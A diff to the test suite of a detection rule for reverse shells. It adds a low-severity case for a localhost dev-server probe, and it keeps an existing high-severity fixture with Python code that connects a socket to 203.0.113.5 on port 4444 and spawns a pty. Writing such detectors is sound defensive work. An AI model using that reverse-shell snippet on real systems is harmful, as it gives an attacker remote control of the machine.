@@ -25,5 +25,10 @@ testRule(reverseShellSocket, {
       files: py("import socket, pty\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nhandler = pty"),
       errors: [{ messageId: 'socketAndSpawn', severity: 'high' }],
     },
+    {
+      name: "a dev server's health probe to localhost beside a spawn is low",
+      files: js("import { createConnection } from 'node:net';\nimport { spawn } from 'node:child_process';\nconst socket = createConnection({ port: 5173, host: 'localhost' });\nspawn('npm', ['run', 'dev']);"),
+      errors: [{ messageId: 'socketAndSpawn', severity: 'low' }],
+    },
   ],
 });
